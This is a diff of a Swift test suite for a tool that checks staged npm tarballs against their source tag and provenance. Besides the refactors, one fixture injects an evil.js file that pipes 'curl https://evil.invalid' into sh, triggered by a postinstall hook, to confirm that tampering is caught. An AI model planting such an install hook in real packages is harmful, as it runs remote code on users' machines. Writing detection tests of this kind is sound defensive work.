@@ -4,7 +4,9 @@ import LoopbackRegistry
 import Registry
 import Testing
 import TestSupport
+@testable import Staged
 @testable import Verification
+import Watch
 
 /// `provcheck staged` against the loopback registry's staging endpoints, with the real gundam-visor fixtures
 /// (registry tarball, source bundle with tag v1.0.1, provenance bundle).
@@ -29,7 +31,7 @@ struct StagedCheckTests {
     static func injectedTarball(in folder: URL) throws -> Data {
         let work = folder.appendingPathComponent("inject")
         try FileManager.default.createDirectory(at: work, withIntermediateDirectories: true)
-        try run(["tar", "-xzf", try Fixtures.url("npm/tarballs/gundam-visor@1.0.1.tgz").path, "-C", work.path])
+        try ProcessRunner.run(["tar", "-xzf", try Fixtures.url("npm/tarballs/gundam-visor@1.0.1.tgz").path, "-C", work.path])
         try Data("require('child_process').exec('curl https://evil.invalid | sh')\n".utf8)
             .write(to: work.appendingPathComponent("package/evil.js"))
         let manifestURL = work.appendingPathComponent("package/package.json")
@@ -37,7 +39,7 @@ struct StagedCheckTests {
         manifest["scripts"] = ["postinstall": "node evil.js"]
         try JSONSerialization.data(withJSONObject: manifest, options: [.prettyPrinted, .sortedKeys]).write(to: manifestURL)
         let output = folder.appendingPathComponent("injected.tgz")
-        try run(["tar", "-czf", output.path, "-C", work.path, "package"])
+        try ProcessRunner.run(["tar", "-czf", output.path, "-C", work.path, "package"])
         return try Data(contentsOf: output)
     }
 
@@ -53,13 +55,13 @@ struct StagedCheckTests {
     static func setup(tarball: Data, version: String = "1.0.1", shasum: String? = nil) throws -> (LoopbackRegistry, StagedChecker) {
         var content = try RegistryContent.fixtures(at: Fixtures.root)
         content.addStagedVersion(id: stageID, packageName: "gundam-visor", version: version, tarball: tarball, shasum: shasum)
-        let registry = try WatchTestSupport.registry(content)
-        return (registry, StagedChecker(client: WatchTestSupport.client(registry)))
+        let registry = try TokenRegistry.registry(content)
+        return (registry, StagedChecker(client: TokenRegistry.client(registry)))
     }
 
     @Test("a staged tarball equal to the tag's rebuild, with its provenance bundle, is verified")
     func passesEqualTarball() async throws {
-        let folder = try WatchTestSupport.temporaryDirectory()
+        let folder = try TemporaryFolder(label: "staged-tests").url
         defer { try? FileManager.default.removeItem(at: folder) }
         let tarball = try Fixtures.data("npm/tarballs/gundam-visor@1.0.1.tgz")
         let (registry, checker) = try Self.setup(tarball: tarball)
@@ -79,12 +81,12 @@ struct StagedCheckTests {
         }
         #expect(result.verdict.check(.trustProvenance)?.evidence["commit"] == Self.commit)
         // The registry saw the token on every staging request.
-        #expect(registry.requests.filter { $0.path.hasPrefix("/-/stage") }.allSatisfy { $0.authorization == "Bearer \(WatchTestSupport.token)" })
+        #expect(registry.requests.filter { $0.path.hasPrefix("/-/stage") }.allSatisfy { $0.authorization == "Bearer \(TokenRegistry.token)" })
     }
 
     @Test("a staged tarball with an injected file and install script fails, and the difference is shown")
     func failsInjectedFile() async throws {
-        let folder = try WatchTestSupport.temporaryDirectory()
+        let folder = try TemporaryFolder(label: "staged-tests").url
         defer { try? FileManager.default.removeItem(at: folder) }
         let (registry, checker) = try Self.setup(tarball: try Self.injectedTarball(in: folder))
         defer { registry.stop() }
@@ -120,7 +122,7 @@ struct StagedCheckTests {
 
     @Test("list needs the token; the digest is recorded for watch")
     func listAndRecord() async throws {
-        let folder = try WatchTestSupport.temporaryDirectory()
+        let folder = try TemporaryFolder(label: "staged-tests").url
         defer { try? FileManager.default.removeItem(at: folder) }
         let tarball = try Fixtures.data("npm/tarballs/gundam-visor@1.0.1.tgz")
         let (registry, checker) = try Self.setup(tarball: tarball)
@@ -133,7 +135,7 @@ struct StagedCheckTests {
         let result = try await checker.check(try #require(try await checker.items(for: Self.stageID).first),
                                              request: StagedCheckRequest(source: try Self.sourceBundle()))
         let stateFile = folder.appendingPathComponent("state.json")
-        try StagedPinRecorder.record(result, in: stateFile, at: WatchTestSupport.runTime)
+        try StagedPinRecorder.record(result, in: stateFile, at: Date(timeIntervalSince1970: 1_795_000_000))
         let pin = try #require(try WatchState.load(contentsOf: stateFile).packages["gundam-visor"]?.stagedPins["1.0.1"])
         #expect(pin.sha512 == Hashing.sha512Hex(tarball) && pin.stageID == Self.stageID)
     }
